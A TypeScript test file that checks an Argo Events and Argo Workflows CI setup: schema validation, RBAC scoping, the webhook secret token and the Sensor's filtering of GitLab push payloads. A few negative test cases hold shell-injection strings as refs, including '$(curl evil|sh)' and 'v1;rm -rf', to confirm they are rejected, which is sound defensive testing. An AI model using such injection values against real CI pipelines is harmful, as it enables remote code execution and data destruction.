import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Ajv from 'ajv';
import { applicationProjectPath, SENSOR_SERVICE_ACCOUNT } from '../../contract/application-ci';
import { renderGitOpsTree } from '../../gitops/render-gitops-tree';
import { addonById } from '../../catalog/registry';
import { K8sObject, validateBuiltIns, validateCustomResources } from '../support/crd-schemas';
import { sensorTriggers } from '../support/argo-events-sensor-model';
import { testConfig } from '../support/test-config';

/**
 * Application CI: the argo-events objects validate against the API's JSON schema of exactly the pinned
 * chart (argo-events 2.4.15 = argo-events v1.9.6; its CRDs carry no schema), the Argo Workflows objects
 * against the pinned full CRDs, and the Sensor's filters are run over GitLab push payloads through a
 * model of argo-events' data filters (test/support/argo-events-sensor-model.ts).
 */

const config = testConfig({
  teams: { payments: { sourceRepos: ['https://gitlab.platform.test.example.com/payments/*'] }, search: {} },
  applications: { checkout: { team: 'payments' }, indexer: { team: 'search' } },
});
const docs = renderGitOpsTree(config).flatMap((f) => f.documents.map((doc) => ({ where: f.path, doc: doc as any })));
const one = (kind: string, name: string) => {
  const found = docs.filter((d) => d.doc.kind === kind && d.doc.metadata?.name === name);
  expect(found).toHaveLength(1);
  return found[0].doc;
};
const sensor = one('Sensor', 'build-on-push');
const eventSource = one('EventSource', 'gitlab');
const template = one('ClusterWorkflowTemplate', 'platform-build-push');

// The pinned chart's schema; its absence fails here and names the folder (no silent skip).
const SCHEMA_FILE = join(__dirname, '..', '..', '..', 'shared', 'charts', 'argo-events', addonById('argo-events').chart.version, 'jsonschema', 'schema.json');

/** The argo-events schema with every object closed to unknown fields (like the CRD checks). */
function argoEventsValidator(kind: 'EventSource' | 'Sensor') {
  const schema = JSON.parse(readFileSync(SCHEMA_FILE, 'utf8'));
  const close = (s: any): void => {
    if (!s || typeof s !== 'object') return;
    if (s.properties && s.additionalProperties === undefined) s.additionalProperties = false;
    for (const v of Object.values(s)) close(v);
  };
  close(schema.definitions);
  // metadata is the API server's business (ObjectMeta), not the kind's schema.
  schema.definitions['io.k8s.apimachinery.pkg.apis.meta.v1.ObjectMeta'] = { type: 'object' };
  const ajv = new Ajv({ strict: false, allErrors: true, validateFormats: false });
  ajv.addSchema({ definitions: schema.definitions }, 'ae');
  return ajv.compile({ $ref: `ae#/definitions/io.argoproj.events.v1alpha1.${kind}` });
}

describe('application CI', () => {
  test('the EventSource and the Sensor validate against the argo-events schema of the pinned chart (closed)', () => {
    for (const [kind, doc] of [['EventSource', eventSource], ['Sensor', sensor]] as const) {
      const validate = argoEventsValidator(kind);
      expect([kind, validate(doc) ? [] : validate.errors]).toEqual([kind, []]);
    }
  });

  test('fails when an argo-events field is misspelled (the schema check is closed)', () => {
    const bad = structuredClone(eventSource);
    bad.spec.gitlab.push.secretTokens = bad.spec.gitlab.push.secretToken;
    expect(argoEventsValidator('EventSource')(bad)).toBe(false);
  });

  test('the workflow template and every built-in object validate against the pinned CRDs and kubernetes-models', () => {
    const ci = docs.filter((d) => /addon-objects\/(argo-workflows|argo-events|external-secrets)\//.test(d.where));
    expect(validateCustomResources(ci.map((d) => ({ where: d.where, doc: d.doc as K8sObject })))).toEqual([]);
    expect(validateBuiltIns(ci.map((d) => d.doc as K8sObject).filter((d) => !d.apiVersion.includes('argoproj') && !d.apiVersion.includes('external-secrets')))).toEqual([]);
  });

  test('GitLab hook calls are checked against the secret token and the event source lists every application project', () => {
    const gitlab = eventSource.spec.gitlab.push;
    // argo-events only loads secretToken (and so compares X-Gitlab-Token) when projects or groups are set:
    // https://github.com/argoproj/argo-events/blob/master/pkg/eventsources/sources/gitlab/start.go
    expect(gitlab.secretToken).toEqual({ name: 'gitlab-webhook-token', key: 'token' });
    expect(gitlab.projects).toEqual(['payments/checkout', 'search/indexer']);
    expect(gitlab.events).toEqual(['PushEvents', 'TagPushEvents']);
    const ingress = one('Ingress', 'ci-events');
    expect(ingress.spec.rules[0].host).toBe(`ci-events.${config.domain}`);
    expect(`https://${ingress.spec.rules[0].host}${ingress.spec.rules[0].http.paths[0].path}`).toBe(`${gitlab.webhook.url}${gitlab.webhook.endpoint}`);
  });

  test('the Sensor runs as a ServiceAccount that exists and may only create Workflows in Argo Workflows\' namespace', () => {
    expect(sensor.spec.template.serviceAccountName).toBe(SENSOR_SERVICE_ACCOUNT);
    expect(one('ServiceAccount', SENSOR_SERVICE_ACCOUNT).metadata.namespace).toBe(sensor.metadata.namespace);
    const role = one('Role', 'ci-sensor-submit');
    expect(role.metadata.namespace).toBe('argo-workflows');
    expect(role.rules).toEqual([{ apiGroups: ['argoproj.io'], resources: ['workflows'], verbs: ['create'] }]);
    expect(one('RoleBinding', 'ci-sensor-submit').subjects).toEqual([{ kind: 'ServiceAccount', name: SENSOR_SERVICE_ACCOUNT, namespace: 'argo-events' }]);
  });

  const push = (over: Record<string, unknown> = {}, project: Record<string, unknown> = {}) => ({
    body: {
      object_kind: 'push', ref: 'refs/heads/main', checkout_sha: 'a'.repeat(40),
      project: { path_with_namespace: 'payments/checkout', path: 'checkout', ...project },
      ...over,
    },
  });

  test('a branch push builds the pushed commit of that application with its own builder and repository', () => {
    const [wf, ...more] = sensorTriggers(sensor, push());
    expect(more).toEqual([]);
    expect(wf.spec.serviceAccountName).toBe('ci-checkout');
    expect(Object.fromEntries(wf.spec.arguments.parameters.map((p: any) => [p.name, p.value]))).toEqual({
      repo: 'https://gitlab.platform.test.example.com/payments/checkout.git',
      repository: 'test/checkout',
      gitSecret: 'ci-git-payments',
      revision: 'a'.repeat(40),
      ref: 'refs/heads/main',
    });
  });

  test('a tag push builds too, and the other application gets its own trigger', () => {
    const [wf] = sensorTriggers(sensor, push({ object_kind: 'tag_push', ref: 'refs/tags/v1.2.3' }, { path_with_namespace: 'search/indexer' }));
    expect(wf.spec.serviceAccountName).toBe('ci-indexer');
    expect(wf.spec.arguments.parameters.find((p: any) => p.name === 'ref').value).toBe('refs/tags/v1.2.3');
  });

  test('a payload without project.path still builds (H3: nothing reads it)', () => {
    const payload = push();
    delete (payload.body.project as any).path;
    expect(sensorTriggers(sensor, payload)).toHaveLength(1);
  });

  test.each([
    ['the project is not a configured application', push({}, { path_with_namespace: 'payments/other' })],
    ['the project path only contains an application\'s path', push({}, { path_with_namespace: 'evil/payments/checkout' })],
    ['project.path_with_namespace is missing', push({}, { path_with_namespace: undefined })],
    ['the push deletes the branch (checkout_sha null)', push({ checkout_sha: null })],
    ['the ref carries shell syntax', push({ ref: 'refs/heads/$(curl evil|sh)' })],
    ['the tag is not a valid image tag', push({ object_kind: 'tag_push', ref: 'refs/tags/v1;rm -rf' })],
    ['the event is a merge request', push({ object_kind: 'merge_request' })],
  ])('fails when %s: nothing is triggered', (_why, payload) => {
    expect(sensorTriggers(sensor, JSON.parse(JSON.stringify(payload)))).toEqual([]);
  });

  test('no event value is spliced into script text: scripts read them from the environment (H3)', () => {
    for (const t of template.spec.templates) {
      if (t.script) expect([t.name, t.script.source]).toEqual([t.name, expect.not.stringContaining('{{')]);
    }
    const clone = template.spec.templates.find((t: any) => t.name === 'clone');
    expect(clone.script.env).toEqual(expect.arrayContaining([{ name: 'REVISION', value: '{{workflow.parameters.revision}}' }]));
    expect(JSON.stringify(clone)).not.toMatch(/GIT_TOKEN[^"]*"\s*,\s*"value"/);
  });

  test('images are built by BuildKit rootless (not the archived Kaniko), pushed only when the immutable tag is new', () => {
    const build = template.spec.templates.find((t: any) => t.name === 'build-push');
    expect(build.container.image).toMatch(/^moby\/buildkit:v\d+\.\d+\.\d+-rootless$/);
    expect(build.container.command).toEqual(['buildctl-daemonless.sh']);
    expect(build.container.securityContext.runAsNonRoot).toBe(true);
    expect(JSON.stringify(template)).not.toContain('kaniko');
    const step = template.spec.templates.find((t: any) => t.name === 'main').steps.flat().find((s: any) => s.name === 'build-push');
    expect(step.when).toBe("{{steps.registry.outputs.parameters.exists}} == 'false'");
  });

  test('each application has its own builder ServiceAccount, bound only to what Argo\'s executor needs', () => {
    for (const app of config.applications) expect(one('ServiceAccount', `ci-${app.name}`).metadata.namespace).toBe('argo-workflows');
    expect(one('Role', 'ci-executor').rules).toEqual([{ apiGroups: ['argoproj.io'], resources: ['workflowtaskresults'], verbs: ['create', 'patch'] }]);
    expect(one('RoleBinding', 'ci-executor').subjects.map((s: any) => s.name)).toEqual(['ci-checkout', 'ci-indexer']);
    expect(config.applications.map(applicationProjectPath)).toEqual(['payments/checkout', 'search/indexer']);
  });
});
